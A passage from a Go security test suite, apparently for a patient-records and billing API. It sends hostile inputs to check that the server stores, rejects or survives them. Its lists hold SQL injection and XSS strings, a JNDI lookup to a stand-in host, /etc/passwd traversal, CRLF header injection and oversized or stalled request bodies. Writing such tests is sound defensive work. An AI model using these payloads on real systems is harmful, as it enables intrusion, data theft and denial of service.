		{"GET", "/api/patients/{id}/invoices", w.clin, ""},
		{"GET", "/api/patients/{id}/access-log", w.admin, ""},
		{"GET", "/api/users/{id}", w.admin, ""},
		{"PATCH", "/api/users/{id}", w.admin, `{"role":"billing"}`},
		{"GET", "/api/billing/accounts/{id}", w.bill, ""},
		{"GET", "/api/billing/invoices/{id}", w.bill, ""},
		{"POST", "/api/billing/invoices/{id}/issue", w.bill, ""},
		{"POST", "/api/billing/invoices/{id}/payments", w.bill, `{"amount":1,"method":"cash"}`},
		{"POST", "/api/billing/invoices/{id}/void", w.bill, ""},
		{"POST", "/api/patients/{id}/break-glass", w.clin, `{"reason":"unconscious patient in A&E"}`},
		{"PUT", "/api/patients/{id}/confidentiality", w.admin, `{"confidentiality":"normal"}`},
		{"POST", "/api/patients/{id}/erase", w.admin, `{"reason":"GDPR Art. 17 request"}`},
		{"GET", "/api/patients/{id}/duplicates", w.clin, ""},
		// merge and unmerge (patient_merge_attack_test.go): a deleted duplicate, so a path that
		// still names a live record is refused too.
		{"POST", "/api/patients/{id}/merge", w.clin, `{"duplicateId":"` + w.deleted + `","reason":"same person, registered twice"}`},
		{"POST", "/api/patients/{id}/unmerge", w.clin, `{"reason":"not the same person after all"}`},
		// The FHIR facade (its PUT checks the body's id against the path's first: bodyRoutes).
		{"GET", "/fhir/Patient/{id}", w.clin, ""},
		{"DELETE", "/fhir/Patient/{id}", w.clin, ""},
		{"GET", "/fhir/Patient/{id}/_history", w.clin, ""},
		{"GET", "/fhir/Patient/{id}/_history/1", w.clin, ""},
		{"GET", "/fhir/Account/{id}", w.bill, ""},
		{"GET", "/fhir/Invoice/{id}", w.bill, ""},
	}
}

// injections are strings that look like SQL, script or template injection and are valid
// names and addresses: they must be stored and returned verbatim.
var injections = []string{
	`Robert'); DROP TABLE patients;--`,
	`' OR '1'='1`,
	`"; DELETE FROM auth.users WHERE ''='`,
	`1; UPDATE billing.invoices SET status='paid'`,
	`<script>alert("x")</script>`,
	`<img src=x onerror=alert(1)>`,
	`${jndi:ldap://evil.example/a}`,
	`{{7*7}} %s %n %x`,
	`../../../etc/passwd`,
	`100% _match_ \ back\slash`,
	`Zoë Ñandú 😀 中文`,
	`\u0000 is text here`,
}

// phaseA sends, one at a time and before the snapshot, the hostile input that succeeds or
// changes state by design.
func (w *attackWorld) phaseA(do func(hostile) outcome) {
	for i, s := range injections {
		q, _ := json.Marshal(s)
		email := fmt.Sprintf("inj%d@example.org", i)
		body := obj("name", string(q), "email", strconv.Quote(email), "address", string(q), "dateOfBirth", `"1980-01-01"`)
		do(hostile{cat: catInjection, name: "stored verbatim: " + s, method: "POST", path: "/api/patients", token: w.clin, body: body,
			want: []int{201}, check: w.verbatim(s, email)})
		// Searching for it matches the text literally: no wildcard, no injection.
		do(hostile{cat: catInjection, name: "searched verbatim: " + s, method: "GET",
			path: "/api/patients?q=" + queryEscape(s), token: w.clin, want: []int{200}, check: searchFinds(s, email)})
	}
	for _, s := range injections[:6] {
		q, _ := json.Marshal(s)
		body := `{"patientId":"` + w.p2 + `","currency":"USD","dueDate":"2030-01-01","lines":[{"description":` + string(q) + `,"quantity":1,"unitAmount":1}]}`
		do(hostile{cat: catInjection, name: "invoice line stored verbatim: " + s, method: "POST", path: "/api/billing/invoices",
			token: w.bill, body: body, want: []int{201}, check: w.invoiceVerbatim(s)})
	}
	// An Idempotency-Key used once; phase B replays it.
	w.idemKey, w.idemBody = "attack-key-1", w.patientBody("idem@example.org")
	o := do(hostile{cat: catState, name: "first use of an Idempotency-Key", method: "POST", path: "/api/patients", token: w.clin,
		body: w.idemBody, headers: []string{"Idempotency-Key", w.idemKey}, want: []int{201}})
	var v struct{ ID string }
	if json.Unmarshal(o.body, &v) != nil || v.ID == "" {
		w.t.Fatalf("idempotent create: %d %s", o.status, o.body)
	}
	w.idemID = v.ID
	// Refresh token reuse: the second use is refused and revokes the family, so the token
	// the first use returned is refused too.
	o = do(hostile{cat: catState, name: "refresh", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.usedRefresh + `"}`, want: []int{200}})
	var p struct{ RefreshToken string }
	if json.Unmarshal(o.body, &p) != nil || p.RefreshToken == "" {
		w.t.Fatalf("refresh: %d %s", o.status, o.body)
	}
	do(hostile{cat: catState, name: "refresh token reused", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.usedRefresh + `"}`,
		want: []int{401}, check: wantWord(errs.Unauthenticated)})
	do(hostile{cat: catState, name: "the rotated token of a reused family", method: "POST", path: "/auth/refresh",
		body: `{"refreshToken":"` + p.RefreshToken + `"}`, want: []int{401}, check: wantWord(errs.Unauthenticated)})
	do(hostile{cat: catOthers, name: "logout", method: "POST", path: "/auth/logout", body: `{"refreshToken":"` + w.loggedOut + `"}`, want: []int{204}})
	do(hostile{cat: catOthers, name: "refresh after logout", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.loggedOut + `"}`,
		want: []int{401}, check: wantWord(errs.Unauthenticated)})
	do(hostile{cat: catOthers, name: "refresh of a disabled user", method: "POST", path: "/auth/refresh", body: `{"refreshToken":"` + w.disabledUser + `"}`,
		want: []int{401}, check: wantWord(errs.Unauthenticated)})
}

// verbatim checks that a create stored s as the name and address exactly, and that reading
// it back returns it exactly, as escaped JSON.
func (w *attackWorld) verbatim(s, email string) func(outcome) error {
	return func(o outcome) error {
		var p struct{ ID, Name, Email, Address string }
		if err := json.Unmarshal(o.body, &p); err != nil {
			return err
		}
		if p.Name != strings.TrimSpace(s) || p.Address != strings.TrimSpace(s) || p.Email != email {
			return fmt.Errorf("stored %q / %q, sent %q", p.Name, p.Address, s)
		}
		resp, b := w.call("GET", "/api/patients/"+p.ID, w.clin, "")
		var got struct{ Name, Address string }
		if resp.StatusCode != 200 || json.Unmarshal(b, &got) != nil || got.Name != p.Name || got.Address != p.Address {
			return fmt.Errorf("read back: %d %s", resp.StatusCode, b)
		}
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") {
			return fmt.Errorf("read back without nosniff or as %q", resp.Header.Get("Content-Type"))
		}
		return nil
	}
}

// searchFinds checks that a search for s found only patients whose name or email holds s,
// among them the one with email (when not "").
func searchFinds(s, email string) func(outcome) error {
	return func(o outcome) error {
		var ps []struct{ Name, Email string }
		if err := json.Unmarshal(o.body, &ps); err != nil {
			return err
		}
		found := email == ""
		for _, p := range ps {
			if !strings.Contains(strings.ToLower(p.Name), strings.ToLower(s)) && !strings.Contains(strings.ToLower(p.Email), strings.ToLower(s)) {
				return fmt.Errorf("a search for %q found %q <%s>", s, p.Name, p.Email)
			}
			found = found || p.Email == email
		}
		if !found {
			return fmt.Errorf("a search for %q did not find it", s)
		}
		return nil
	}
}

// invoiceVerbatim checks that an invoice line's description was stored and reads back as
// sent.
func (w *attackWorld) invoiceVerbatim(s string) func(outcome) error {
	return func(o outcome) error {
		var inv struct {
			ID    string
			Lines []struct{ Description string }
		}
		if err := json.Unmarshal(o.body, &inv); err != nil || len(inv.Lines) != 1 || inv.Lines[0].Description != s {
			return fmt.Errorf("stored %s, sent %q (%v)", o.body, s, err)
		}
		resp, b := w.call("GET", "/api/billing/invoices/"+inv.ID, w.bill, "")
		if resp.StatusCode != 200 || json.Unmarshal(b, &inv) != nil || len(inv.Lines) != 1 || inv.Lines[0].Description != s {
			return fmt.Errorf("read back: %d %s", resp.StatusCode, b)
		}
		return nil
	}
}

// queryEscape escapes a query value the way a browser's form would, but spaces as %20.
func queryEscape(s string) string {
	return strings.ReplaceAll(neturl.QueryEscape(s), "+", "%20")
}

// phaseB is the barrage: every request a rejection or a read, so that the data after it
// must be what it was before.
func (w *attackWorld) phaseB(is *authztest.Issuer) []hostile {
	var out []hostile
	add := func(hs ...hostile) { out = append(out, hs...) }
	routes := w.bodyRoutes()

	// Malformed and truncated JSON, on every route that takes a body.
	for _, r := range routes {
		v := r.body
		for i, b := range []string{
			"{", "}", "{]", "[", `{"`, `{"a"`, `{"a":`, `{"a":}`, `{,}`, `{"a":1,}`, `{'a':1}`, `{a:1}`,
			v[:len(v)/2], v[:len(v)-1], v + v, v + "x", "[" + v + "]", "null", "true", `"string"`, "123", "   \n\t  ",
			"\xef\xbb\xbf" + v, strings.ReplaceAll(v, `"`, `'`), `{"a":1 /* comment */}`, `{"a":NaN}`, `{"a":Infinity}`,
			`{"a":0x10}`, `{"a":01}`, `{"a":.5}`, `{"a":"\x"}`, `{"a":"\ud800"}`, `{"a":"unterminated}`, "\x00" + v,
		} {
			if b == v {
				continue // a mutation that left the valid body as it was
			}
			add(r.req(catMalformed, fmt.Sprintf("malformed #%d", i), b))
		}
		if !r.emptyOK {
			add(r.req(catMalformed, "empty body", ""))
		}
	}

	// Deep nesting.
	for _, r := range routes {
		keys, _ := fields(r.body)
		k := "a"
		if len(keys) > 0 {
			k = keys[0]
		}
		add(r.req(catNesting, "10k nested arrays in a field", obj(k, strings.Repeat("[", 10000)+strings.Repeat("]", 10000))),
			r.req(catNesting, "100k unclosed arrays", strings.Repeat("[", 100000)),
			r.req(catNesting, "50k nested objects", strings.Repeat(`{"a":`, 50000)+"1"+strings.Repeat("}", 50000)),
			r.req(catNesting, "nested objects in a field", obj(k, strings.Repeat(`{"a":`, 20000)+"1"+strings.Repeat("}", 20000))))
	}

	// Huge strings and bodies.
	for _, r := range routes {
		keys, _ := fields(r.body)
		k := "a"
		if len(keys) > 0 {
			k = keys[0]
		}
		add(r.req(catHuge, "900 KiB string field", with(r.body, k, `"`+strings.Repeat("a", 900<<10)+`"`)),
			r.req(catHuge, "1.5 MiB string field", with(r.body, k, `"`+strings.Repeat("a", 1536<<10)+`"`)),
			r.req(catHuge, "5 MiB body", r.body[:len(r.body)-1]+`,"pad":"`+strings.Repeat("x", 5<<20)+`"}`),
			r.req(catHuge, "1 MiB + 1 of whitespace", "{"+strings.Repeat(" ", 1<<20)+"}"),
			r.req(catHuge, "50k unknown fields", unknownFields(40000)))
	}
	endless := func(chunk string) func(io.Writer, <-chan struct{}) {
		return func(wr io.Writer, stop <-chan struct{}) {
			frame := fmt.Sprintf("%x\r\n%s\r\n", len(chunk), chunk)
			for {
				select {
				case <-stop:
					return
				default:
				}
				if _, err := io.WriteString(wr, frame); err != nil {
					return
				}
			}
		}
	}
	stalled := func(prefix string) func(io.Writer, <-chan struct{}) {
		return func(wr io.Writer, stop <-chan struct{}) {
			_, _ = fmt.Fprintf(wr, "%x\r\n%s\r\n", len(prefix), prefix)
			<-stop
		}
	}
	for _, p := range []struct{ path, token string }{{"/api/patients", w.clin}, {"/auth/login", ""}, {"/api/billing/invoices", w.bill}} {
		add(hostile{cat: catHuge, name: "never-ending chunked body", method: "POST", path: p.path, token: p.token,
			stream: endless(`{"name":"` + strings.Repeat("a", 4000)), want: []int{413}},
			hostile{cat: catHuge, name: "never-ending chunked whitespace", method: "POST", path: p.path, token: p.token,
				stream: endless(strings.Repeat(" ", 4096)), want: []int{413}},
			hostile{cat: catHuge, name: "huge Content-Length, no body sent", method: "POST", path: p.path, token: p.token,
				headers: []string{"Content-Length", "99999999999", "Expect", "100-continue"}, ctype: "application/json", want: []int{413}})
	}
	for _, p := range []struct{ path, token string }{{"/api/patients", w.clin}, {"/auth/login", ""}} {
		add(hostile{cat: catHuge, name: "stalled chunked body", method: "POST", path: p.path, token: p.token,
			stream: stalled(`{"name":"slow`), timeout: stallTimeout, want: []int{400}})
	}
	add(hostile{cat: catHuge, name: "stalled request head", head: "POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n",
		method: "POST", timeout: stallTimeout, mayClose: true, protocol: true},
		hostile{cat: catHuge, name: "body shorter than its Content-Length", method: "POST", path: "/api/patients", token: w.clin,
			headers: []string{"Content-Length", "500"}, body: w.patientBody("short@example.org"), halfClose: true, framing: true})

	// Wrong JSON types, field by field.
	for _, r := range routes {
		keys, values := fields(r.body)
		for _, k := range keys {
			for _, bad := range wrongFor(values[k]) {
				add(r.req(catTypes, k+" = "+bad, with(r.body, k, bad)))
			}
		}
	}
	inv := w.invoiceBody(w.p1)
	for _, lines := range []string{`[1]`, `[[]]`, `["x"]`, `[{"description":1,"quantity":1,"unitAmount":1}]`,
		`[{"description":"x","quantity":"1","unitAmount":1}]`, `[{"description":"x","quantity":1.5,"unitAmount":1}]`,
		`[{"description":"x","quantity":1,"unitAmount":9223372036854775808}]`, `[{"description":"x","quantity":1,"unitAmount":-1}]`,
		`[{"description":"x","quantity":1,"unitAmount":1e30}]`, `[{"description":"x","quantity":0,"unitAmount":1}]`,
		`[{"description":"x","quantity":1,"unitAmount":1,"amount":5}]`, `[]`} {
		add(hostile{cat: catTypes, name: "invoice lines " + lines, method: "POST", path: "/api/billing/invoices", token: w.bill, body: with(inv, "lines", lines)})
	}

	// Control characters, NUL and invalid UTF-8, in every string field.
	controls := []string{`"a\u0000b"`, `"\u0007bell"`, `"\u001b[2J"`, `"x\u007f"`, `"a\u0085b"`, "\"a\xffb\"", "\"\xc0\xae\"", "\"\xed\xa0\x80\"", "\"a\x01b\""}
	for _, r := range routes {
		keys, values := fields(r.body)
		for _, k := range keys {
			if !strings.HasPrefix(values[k], `"`) {
				continue
			}
			for _, c := range controls {
				add(r.req(catControl, k+" = "+c, with(r.body, k, c)))
			}
		}
	}
	for _, c := range controls {
		add(hostile{cat: catControl, name: "invoice line description " + c, method: "POST", path: "/api/billing/invoices", token: w.bill,
			body: with(inv, "lines", `[{"description":`+c+`,"quantity":1,"unitAmount":1}]`)})
	}
	for _, p := range []string{"%00", "%ff", "%c0%ae", "%ed%a0%80", "%0d%0a", "%1b"} {
		add(hostile{cat: catControl, name: "patient id " + p, method: "GET", path: "/api/patients/" + p, token: w.clin},
			hostile{cat: catControl, name: "patient id with " + p, method: "PUT", path: "/api/patients/" + w.p1 + p, token: w.clin,
				body: routes[6].body},
			hostile{cat: catControl, name: "invoice id " + p, method: "POST", path: "/api/billing/invoices/" + p + "/void", token: w.bill},
			hostile{cat: catControl, name: "user id " + p, method: "PATCH", path: "/api/users/" + p, token: w.admin, body: `{"role":"admin"}`})
		for _, q := range []string{"q", "email", "dateOfBirth", "pageToken"} {
			add(hostile{cat: catControl, name: "patients ?" + q + "=" + p, method: "GET", path: "/api/patients?" + q + "=a" + p, token: w.clin,
				want: controlQueryWant(q, p)})
		}
		for _, q := range []string{"patientId", "actor"} {
			add(hostile{cat: catControl, name: "audit ?" + q + "=" + p, method: "GET", path: "/api/audit?" + q + "=a" + p, token: w.admin,
				want: controlQueryWant(q, p)})
		}
		add(hostile{cat: catControl, name: "invoices ?status=" + p, method: "GET", path: "/api/billing/invoices?status=" + p, token: w.bill},
			hostile{cat: catControl, name: "accounts ?patientId=" + p, method: "GET", path: "/api/billing/accounts?patientId=" + p, token: w.bill},
			hostile{cat: catControl, name: "users audit ?actor=" + p, method: "GET", path: "/api/users/audit?actor=a" + p, token: w.admin,
				want: controlQueryWant("actor", p)},
			hostile{cat: catControl, name: "summary ?from=" + p, method: "GET", path: "/api/analytics/summary?from=" + p, token: w.analyst},
			hostile{cat: catControl, name: "query name " + p, method: "GET", path: "/api/patients?" + p + "=1", token: w.clin})
	}
	for _, raw := range []string{"\x00", "\x7f", " ", "\t", "\xff"} {
		add(hostile{cat: catControl, name: fmt.Sprintf("raw %q in the path", raw), method: "GET", path: "/api/patients/" + raw + w.p1, token: w.clin, protocol: true})
	}

	// SQL- and script-looking strings where they are not valid: rejected; in searches: a
	// read that finds nothing it should not.
	sqls := []string{`' OR '1'='1`, `1; DROP TABLE patients;--`, `admin'--`, `' UNION SELECT password_hash FROM auth.users--`, `<script>alert(1)</script>`, `%' OR 1=1 --`}
	for _, s := range sqls {
		q, _ := json.Marshal(s)
		add(hostile{cat: catInjection, name: "login email " + s, method: "POST", path: "/auth/login", body: obj("email", string(q), "password", `"whatever password 1"`)},
			hostile{cat: catInjection, name: "login password " + s, method: "POST", path: "/auth/login", body: obj("email", strconv.Quote(allAdminEmail), "password", string(q))},
			hostile{cat: catInjection, name: "refresh token " + s, method: "POST", path: "/auth/refresh", body: obj("refreshToken", string(q))},
			hostile{cat: catInjection, name: "patient email " + s, method: "POST", path: "/api/patients", token: w.clin, body: with(w.patientBody("x@example.org"), "email", string(q))},
			hostile{cat: catInjection, name: "patient dateOfBirth " + s, method: "POST", path: "/api/patients", token: w.clin, body: with(w.patientBody("y@example.org"), "dateOfBirth", string(q))},
			hostile{cat: catInjection, name: "invoice currency " + s, method: "POST", path: "/api/billing/invoices", token: w.bill, body: with(inv, "currency", string(q))},
			hostile{cat: catInjection, name: "invoice patientId " + s, method: "POST", path: "/api/billing/invoices", token: w.bill, body: with(inv, "patientId", string(q))},
			hostile{cat: catInjection, name: "user role " + s, method: "PATCH", path: "/api/users/" + w.analystID, token: w.admin, body: obj("role", string(q))},
			hostile{cat: catInjection, name: "user email " + s, method: "POST", path: "/api/users", token: w.admin, body: obj("email", string(q), "password", strconv.Quote(matrixPassword), "role", `"admin"`)},
			hostile{cat: catInjection, name: "payment method " + s, method: "POST", path: "/api/billing/invoices/" + w.open + "/payments", token: w.bill, body: obj("amount", "1", "method", string(q))},
			hostile{cat: catInjection, name: "patient id " + s, method: "DELETE", path: "/api/patients/" + queryEscape(s), token: w.clin},
			hostile{cat: catInjection, name: "search q " + s, method: "GET", path: "/api/patients?q=" + queryEscape(s), token: w.clin, want: []int{200}, check: searchFinds(s, "")},
			hostile{cat: catInjection, name: "search email " + s, method: "GET", path: "/api/patients?email=" + queryEscape(s), token: w.clin, want: []int{200}, check: emptyArray},
			hostile{cat: catInjection, name: "audit actor " + s, method: "GET", path: "/api/audit?actor=" + queryEscape(s), token: w.admin, want: []int{200}, check: emptyArray},
			hostile{cat: catInjection, name: "audit patientId " + s, method: "GET", path: "/api/audit?patientId=" + queryEscape(s), token: w.admin, want: []int{200, 400}, check: emptyArray},
			hostile{cat: catInjection, name: "invoices patientId " + s, method: "GET", path: "/api/billing/invoices?patientId=" + queryEscape(s), token: w.bill},
			hostile{cat: catInjection, name: "invoices status " + s, method: "GET", path: "/api/billing/invoices?status=" + queryEscape(s), token: w.bill},
		)
	}

	add(w.breakGlassCases()...)
	add(w.consoleCases()...)
	add(w.eraseCases()...)
	add(w.duplicateCases()...)
	add(w.mergeCases()...)

	// Path traversal and bad ids, on every route with an id.
	badIDs := []string{"..", "../..", "..%2f..%2fusers", "%2e%2e", "%2e%2e%2f%2e%2e%2faudit", "..%252f..%252f", "..;", "%2F", "%2f%2f",
		"..%5c..%5c", "%c0%ae%c0%ae%c0%af", "%ef%bc%8f", "a%20b", "%0d%0aX-Injected:%201", strings.Repeat("a", 10000), strings.Repeat("%41", 3000),
		"00000000-0000-0000-0000-000000000000", "-1", "0", "1e9", "null", "undefined", "%7Bid%7D", "*", "%25", "%E6%82%A3%E8%80%85",
		w.p1 + "%00", w.p1 + "%2f..", w.p1 + "%20", "%20" + w.p1, w.p1 + ";x=1", w.p1 + "#x", w.p1 + "/", w.p1 + "/.", w.p1 + "/..", w.p1 + "/../" + w.p2}
	for _, r := range w.idRoutes() {
		for _, id := range badIDs {
			add(hostile{cat: catIDs, name: "id " + id, method: r.method, path: strings.Replace(r.path, "{id}", id, 1), token: r.token, body: r.body})
		}
		// A well-formed id of nothing, and one of another kind of resource.
		add(hostile{cat: catIDs, name: "unknown id", method: r.method, path: strings.Replace(r.path, "{id}", "7b0c2f8e-9a51-4a7e-8a3e-0f1d2c3b4a59", 1), token: r.token, body: r.body, want: []int{404}},
			hostile{cat: catIDs, name: "id of another kind", method: r.method, path: strings.Replace(r.path, "{id}", w.otherKind(r.path), 1), token: r.token, body: r.body, want: []int{404}})
	}
	add(hostile{cat: catIDs, name: "raw % in the id", method: "GET", path: "/api/patients/%", token: w.clin, protocol: true},
		hostile{cat: catIDs, name: "raw %zz in the id", method: "DELETE", path: "/api/patients/%zz", token: w.clin, protocol: true},
		hostile{cat: catIDs, name: "absolute-form target elsewhere", method: "GET", path: "http://evil.example/api/patients/..%2f..%2fusers", token: w.clin},
		hostile{cat: catIDs, name: "dot segments to users", method: "GET", path: "/api/patients/../users", token: w.clin},
		hostile{cat: catIDs, name: "dot segments to audit", method: "GET", path: "/api/billing/../audit", token: w.bill},
		hostile{cat: catIDs, name: "encoded dot segments to users", method: "GET", path: "/api/patients/%2e%2e/users", token: w.clin},
		hostile{cat: catIDs, name: "double slash", method: "GET", path: "//api/users", token: w.clin},
		hostile{cat: catIDs, name: "64 KiB path", method: "GET", path: "/api/patients/" + strings.Repeat("a", 64<<10), token: w.clin, protocol: true})

	// Demographics (issue 19): each bad value of a new field, the MRN's identifier system set
	// by a client, a shared email without (or with a partial) confirmation, garbage in
	// X-Confirm-Not-Duplicate. The PUT keeps p1's email, so only its demographics are judged.
	demo := func(name, k, v string) {
		add(hostile{cat: catTypes, name: "create " + name, method: "POST", path: "/api/patients", token: w.clin,
			body: with(w.patientBody("demo-never@example.org"), k, v), want: []int{400}},
			hostile{cat: catTypes, name: "update " + name, method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
				body: with(w.patientBody("p1@example.org"), k, v), want: []int{400}})
	}
	manyIDs := make([]string, 11)
	for i := range manyIDs {
		manyIDs[i] = fmt.Sprintf(`{"system":"urn:x","value":"%d"}`, i)
	}
	for _, c := range []struct{ name, k, v string }{
		{"gender not FHIR", "gender", `"F"`}, {"gender padded enum", "gender", `"femalex"`},
		{"phone 26 chars", "phone", `"` + strings.Repeat("1", 26) + `"`}, {"phone letters", "phone", `"555-CALL-NOW"`},
		{"phone 16 digits", "phone", `"+1234567890123456"`}, {"phone plus inside", "phone", `"12+345"`},
		{"family 101 chars", "family", `"` + strings.Repeat("f", 101) + `"`}, {"given 6 names", "given", `["a","b","c","d","e","f"]`},
		{"given blank", "given", `[" "]`}, {"given null item", "given", `[null]`},
		{"identifier MRN system", "identifiers", `[{"system":"urn:pms:mrn","value":"0000000018"}]`},
		{"identifier relative system", "identifiers", `[{"system":"national-id","value":"1"}]`},
		{"identifier system with space", "identifiers", `[{"system":"urn:a b","value":"1"}]`},
		{"identifier system with bar", "identifiers", `[{"system":"urn:a|b","value":"1"}]`},
		{"identifier blank value", "identifiers", `[{"system":"urn:x","value":""}]`},
		{"identifier value 101", "identifiers", `[{"system":"urn:x","value":"` + strings.Repeat("9", 101) + `"}]`},
		{"identifier unknown field", "identifiers", `[{"system":"urn:x","value":"1","use":"official"}]`},
		{"identifier twice", "identifiers", `[{"system":"urn:x","value":"1"},{"system":"urn:x","value":"1"}]`},
		{"11 identifiers", "identifiers", "[" + strings.Join(manyIDs, ",") + "]"},
		{"no name and no structured name", "name", `""`},
	} {
		demo(c.name, c.k, c.v)
	}
	for _, h := range []struct{ name, v string }{
		{"not ids", "x,y"}, {"path traversal", "../../etc"}, {"5000 chars", strings.Repeat("a", 5000)},
		{"51 ids", strings.TrimSuffix(strings.Repeat(w.p2+",", 51), ",")}, {"non-ASCII", "é"},
	} {
		add(hostile{cat: catHeaders, name: "X-Confirm-Not-Duplicate " + h.name, method: "POST", path: "/api/patients", token: w.clin,
			body: w.patientBody("demo-confirm@example.org"), headers: []string{"X-Confirm-Not-Duplicate", h.v}, want: []int{400}})
	}
	add(hostile{cat: catState, name: "shared email unconfirmed", method: "POST", path: "/api/patients", token: w.clin,
		body: w.patientBody("p1@example.org"), want: []int{409}, check: wantWord(errs.Conflict)},
		hostile{cat: catState, name: "shared email confirmed for someone else", method: "POST", path: "/api/patients", token: w.clin,
			body: w.patientBody("p1@example.org"), headers: []string{"X-Confirm-Not-Duplicate", w.p2}, want: []int{409}, check: wantWord(errs.Conflict)})

	// The FHIR facade: roles as on /api/patients, no token, formats it does not serve,
	// search parameters refused under strict handling, unknown resource types.
	fhirBody := fhirPatientJSON("", "Never Created", "never-created-fhir@example.org", "1980-01-01")
	add(hostile{cat: catRoles, name: "FHIR create by billing", method: "POST", path: "/fhir/Patient", token: w.bill, body: fhirBody, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR update by billing", method: "PUT", path: "/fhir/Patient/" + w.p1, token: w.bill,
			body: fhirPatientJSON(w.p1, "Changed By Attack", "p1@example.org", "1980-01-01"), want: []int{403}},
		hostile{cat: catRoles, name: "FHIR delete by billing", method: "DELETE", path: "/fhir/Patient/" + w.p1, token: w.bill, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR read by analyst", method: "GET", path: "/fhir/Patient/" + w.p1, token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR search by analyst", method: "GET", path: "/fhir/Patient?name=a", token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR history by analyst", method: "GET", path: "/fhir/Patient/" + w.p1 + "/_history", token: w.analyst, want: []int{403}},
		hostile{cat: catJWT, name: "FHIR read without a token", method: "GET", path: "/fhir/Patient/" + w.p1, want: []int{401}},
		hostile{cat: catJWT, name: "FHIR create without a token", method: "POST", path: "/fhir/Patient", body: fhirBody, want: []int{401}},
		hostile{cat: catJWT, name: "FHIR search with a garbage token", method: "GET", path: "/fhir/Patient?name=a", token: "not.a.jwt", want: []int{401}},
		hostile{cat: catHeaders, name: "FHIR _format=xml", method: "GET", path: "/fhir/Patient/" + w.p1 + "?_format=xml", token: w.clin, want: []int{406}},
		hostile{cat: catHeaders, name: "FHIR Accept: application/fhir+xml", method: "GET", path: "/fhir/Patient/" + w.p1, token: w.clin,
			headers: []string{"Accept", "application/fhir+xml"}, want: []int{406}},
		hostile{cat: catHeaders, name: "FHIR XML body", method: "POST", path: "/fhir/Patient", token: w.clin, body: "<Patient/>", ctype: "application/fhir+xml", want: []int{415}},
		hostile{cat: catHeaders, name: "FHIR stale If-Match", method: "PUT", path: "/fhir/Patient/" + w.p1, token: w.clin,
			body: fhirPatientJSON(w.p1, "Changed By Attack", "p1@example.org", "1980-01-01"), headers: []string{"If-Match", `W/"999"`}, want: []int{412}},
		hostile{cat: catHeaders, name: "FHIR conditional create", method: "POST", path: "/fhir/Patient", token: w.clin, body: fhirBody,
			headers: []string{"If-None-Exist", "name=x"}, want: []int{400}},
		hostile{cat: catHeaders, name: "FHIR search form as JSON", method: "POST", path: "/fhir/Patient/_search", token: w.clin, body: `{"name":"a"}`, want: []int{415}},
		hostile{cat: catQuery, name: "FHIR unknown parameter, strict", method: "GET", path: "/fhir/Patient?foo=1", token: w.clin,
			headers: []string{"Prefer", "handling=strict"}, want: []int{400}},
		hostile{cat: catQuery, name: "FHIR birthdate prefix ne, strict", method: "GET", path: "/fhir/Patient?birthdate=ne2000-01-01", token: w.clin,
			headers: []string{"Prefer", "handling=strict"}, want: []int{400}},
		hostile{cat: catQuery, name: "FHIR _count=0", method: "GET", path: "/fhir/Patient?_count=0", token: w.clin, want: []int{400}},
		hostile{cat: catQuery, name: "FHIR forged page token", method: "GET", path: "/fhir/Patient?_pageToken=%27%20OR%201%3D1", token: w.clin, want: []int{400}},
		hostile{cat: catQuery, name: "FHIR name twice", method: "GET", path: "/fhir/Patient?name=a&name=b", token: w.clin, want: []int{400}},
		hostile{cat: catQuery, name: "FHIR NUL in name", method: "GET", path: "/fhir/Patient?name=a%00", token: w.clin, want: []int{400}},
		hostile{cat: catRoutes, name: "FHIR unknown resource type", method: "GET", path: "/fhir/Observation", token: w.clin, want: []int{404}},
		hostile{cat: catRoutes, name: "FHIR PATCH", method: "PATCH", path: "/fhir/Patient/" + w.p1, token: w.clin, body: `[]`, want: []int{405}},
		hostile{cat: catRoutes, name: "FHIR vread 0", method: "GET", path: "/fhir/Patient/" + w.p1 + "/_history/0", token: w.clin, want: []int{400}})

	// FHIR Patient search by demographics, Account, Invoice and AuditEvent (docs/fhir.md):
	// roles as on REST, invalid values and references 400, each answer an OperationOutcome.
	fq := func(name, path, token string, want ...int) hostile {
		return hostile{cat: catQuery, name: "FHIR " + name, method: "GET", path: path, token: token, want: want}
	}
	pref := "Patient%2F" + w.p1
	add(hostile{cat: catRoles, name: "FHIR Account search by analyst", method: "GET", path: "/fhir/Account?patient=" + pref, token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR Account read by analyst", method: "GET", path: "/fhir/Account/" + w.account, token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR Invoice read by analyst", method: "GET", path: "/fhir/Invoice/" + w.draft, token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR Invoice search by analyst", method: "GET", path: "/fhir/Invoice?patient=" + pref, token: w.analyst, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR AuditEvent by clinician", method: "GET", path: "/fhir/AuditEvent?patient=" + pref, token: w.clin, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR AuditEvent by billing", method: "GET", path: "/fhir/AuditEvent?patient=" + pref, token: w.bill, want: []int{403}},
		hostile{cat: catRoles, name: "FHIR AuditEvent by analyst", method: "GET", path: "/fhir/AuditEvent?patient=" + pref, token: w.analyst, want: []int{403}},
		hostile{cat: catJWT, name: "FHIR Invoice read without a token", method: "GET", path: "/fhir/Invoice/" + w.draft, want: []int{401}},
		hostile{cat: catJWT, name: "FHIR AuditEvent without a token", method: "GET", path: "/fhir/AuditEvent?patient=" + pref, want: []int{401}},
		fq("family twice", "/fhir/Patient?family=a&family=b", w.clin, 400),
		fq("gender not administrative", "/fhir/Patient?gender=robot", w.clin, 400),
		fq("gender of another system", "/fhir/Patient?gender=urn:x%7Cfemale", w.clin, 400),
		fq("birthdate not a date", "/fhir/Patient?birthdate=1990-02-30", w.clin, 400),
		fq("birthdate unknown prefix", "/fhir/Patient?birthdate=zz1990", w.clin, 400),
		fq("birthdate with a time", "/fhir/Patient?birthdate=1990-01-01T00:00:00Z", w.clin, 400),
